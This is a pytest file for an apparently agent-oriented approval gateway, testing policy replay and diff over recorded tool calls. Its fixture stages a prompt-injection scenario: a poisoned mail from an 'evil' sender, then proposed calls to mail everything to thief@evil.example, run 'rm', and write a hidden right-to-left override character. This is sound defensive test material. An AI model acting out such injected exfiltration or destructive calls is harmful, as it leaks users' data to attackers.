"""``checkvalve policy diff`` and ``replay`` over calls that are in the store."""

from __future__ import annotations

from pathlib import Path

import pytest

from checkvalve.approvals.kit_replay import by_facts
from checkvalve.approvals.kit_rules import GOOD
from checkvalve.approvals.policy import load_policy
from checkvalve.graphs.session import Call
from tests.gateway.terminal import Terminal
from tests.gateway.world import MANIFEST, POISON, World

POLICY = (Path(__file__).resolve().parents[2] / "approvals" / "default.cedar").read_text("utf-8")


@pytest.fixture
def terminal(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Terminal:
    return Terminal(capsys, monkeypatch)


@pytest.fixture
def recorded(place: World) -> World:
    """Return a place with calls of every verdict, some with a stored history."""
    with place.open() as gateway:
        session = gateway.session("t", "me")
        session.user_words("Read my mail, look up Ann and send a mail that says hello to her", key="u")
        session.propose(Call("read_mail", {}, "c1@one", turn="one"))
        mails = [{"id": "m1", "sender": "eve@evil.example", "text": POISON}]
        session.result(Call("read_mail", {}, "c1@one", turn="one"), mails, key="r1")
        looked = Call("lookup", {"name": "Ann"}, "c2@two", turn="two")
        session.propose(looked)
        session.result(looked, {"name": "Ann", "email": "ann@corp.example"}, key="r2")
        # In the turn that looked her up the model cannot have read the address.
        session.propose(Call("send_mail", {"to": "ann@corp.example", "body": "hi"}, "c3@two", turn="two"))
        session.propose(Call("send_mail", {"to": "ann@corp.example", "body": "hello"}, "c4@three", turn="three"))
        session.propose(Call("send_mail", {"to": "thief@evil.example", "body": "all"}, "c5@four", turn="four"))
        session.propose(Call("rm", {}, "c6@five", turn="five"))
        session.propose(Call("note", {"text": "a\u202eb"}, "c7@six", turn="six"))
        gateway.session("bare", "me").propose(Call("note", {"text": "x"}, "d1"))
    return place


def test_under_the_same_rules_nothing_changes(terminal: Terminal, recorded: World) -> None:
    code, found = terminal.json("--config", recorded.config, "policy", "replay")
    assert [item for item in found["decisions"] if item["changed"]] == []
    assert (code, found["calls"], found["changed"]) == (0, 8, {})
    how = {item["how"] for item in found["decisions"]}
    assert "history" in how
    code, out, _ = terminal("--config", recorded.config, "policy", "replay", "--facts")
    assert (code, "8 recorded calls, 0 would be decided otherwise" in out) == (0, True)


def test_a_replay_writes_nothing(terminal: Terminal, recorded: World) -> None:
    def everything() -> list[object]:
        with recorded.open() as gateway:
            return [*gateway.queue.list(), *gateway.content.items("t"), *gateway.queue.endorsements("t")]

    before = everything()
    terminal("--config", recorded.config, "policy", "replay")
    assert everything() == before


def test_another_policy_changes_what_it_is_about(terminal: Terminal, recorded: World) -> None:
    lax = recorded.folder / "lax.cedar"
    lax.write_text(POLICY.replace("when { !context.asked };", "when { context.asked && !context.asked };"))
    never = recorded.folder / "never.cedar"
    never.write_text(POLICY + '\n@id("no-mail") forbid (principal, action == Action::"send", resource);\n')
    for more in ([], ["--facts"]):
        code, found = terminal.json("--config", recorded.config, "policy", "replay", "--policy", never, *more)
        assert code == 1
        assert found["changed"] == {"allow to deny": 1, "review to deny": 2}
    assert terminal("--config", recorded.config, "policy", "replay", "--policy", never, "--thread", "bare")[0] == 0
    code, out, _ = terminal("--config", recorded.config, "policy", "replay", "--policy", never)
    assert "send_mail: review by untrusted-target, now deny by no-mail" in out
    code, out, _ = terminal("--config", recorded.config, "policy", "diff", never)
    assert code == 1
    assert "added: no-mail" in out
    assert "send: can be deny where it was allow" in out
    assert "3 would be decided otherwise" in out


def test_another_manifest_is_decided_from_the_history(terminal: Terminal, recorded: World) -> None:
    other = recorded.folder / "other.yaml"
    other.write_text(MANIFEST.replace("writable_by: owner, kind: email", "writable_by: outsiders, kind: email"))
    found = terminal.json("--config", recorded.config, "policy", "replay", "--manifest", other)[1]
    assert found["changed"] == {"allow to review": 1}


def test_later_endorsements_do_not_count(terminal: Terminal, recorded: World) -> None:
    with recorded.open() as gateway:
        ann = gateway.queue.reviewers.authenticate(gateway.queue.reviewers.add("ann"))
        row = next(item for item in gateway.queue.list() if item.args().get("to") == "thief@evil.example")
        gateway.queue.approve(row.id, ann, row.digest.removeprefix("sha256:")[:12])
        assert gateway.queue.endorsements("t")
    found = terminal.json("--config", recorded.config, "policy", "replay")[1]
    assert found["changed"] == {}


def test_equal_policies_do_not_differ(terminal: Terminal, recorded: World) -> None:
    same = recorded.folder / "same.cedar"
    same.write_text(POLICY + "\n// a comment\n")
    code, found = terminal.json("--config", recorded.config, "policy", "diff", same)
    assert (code, found["verdicts"], found["changed"], found["calls"]) == (0, [], {}, 8)
    assert terminal("policy", "diff", same, "--no-recorded")[0] == 0


def test_facts_alone_keep_what_no_policy_decided() -> None:
    policy = load_policy()
    facts = {"facts": {"targets_ok": True}, "rules": ["x"]}
    assert by_facts({"facts": {}}, ("deny", "unknown-tool"), "send", policy) == ("deny", "unknown-tool", "refused")
    assert by_facts(facts, ("allow", "x"), "", policy) == ("allow", "x", "unknown")
    assert by_facts(facts, ("deny", "hidden-text"), "send", policy) == ("deny", "hidden-text", "facts")
    assert by_facts(facts, ("allow", "x"), "send", policy) == ("allow", "x", "unknown")  # facts that are not all there


def test_facts_are_about_the_effect_that_was_recorded_with_them() -> None:
    policy = load_policy()
    facts = {**GOOD, "profile": "strict", "leaves_domain": False, "reversible": False, "targets_ok": False}
    decision = {"facts": facts, "rules": ["untrusted-target"], "action": "send"}
    assert by_facts(decision, ("review", "untrusted-target"), "read", policy)[0] == "review"
    assert by_facts({**decision, "action": ""}, ("review", "untrusted-target"), "read", policy)[0] == "allow"
    assert by_facts(decision, ("review", "untrusted-target"), "", policy) == ("review", "untrusted-target", "facts")


def test_facts_of_another_version_say_nothing() -> None:
    facts = {**GOOD, "profile": "strict", "leaves_domain": False}
    decision = {"facts": facts, "rules": ["attributed-effect"], "action": "send"}
    assert by_facts(decision, ("allow", "attributed-effect"), "send", load_policy()) == (
        "allow", "attributed-effect", "unknown",
    )  # fmt: skip


def test_a_decision_is_recorded_with_its_effect(recorded: World) -> None:
    with recorded.open() as gateway:
        rows = {row.tool: row.decision.get("action") for row in gateway.queue.list()}
    assert rows["send_mail"] == "send"
    assert rows["read_mail"] == "read"
    assert "rm" not in rows or rows["rm"] is None
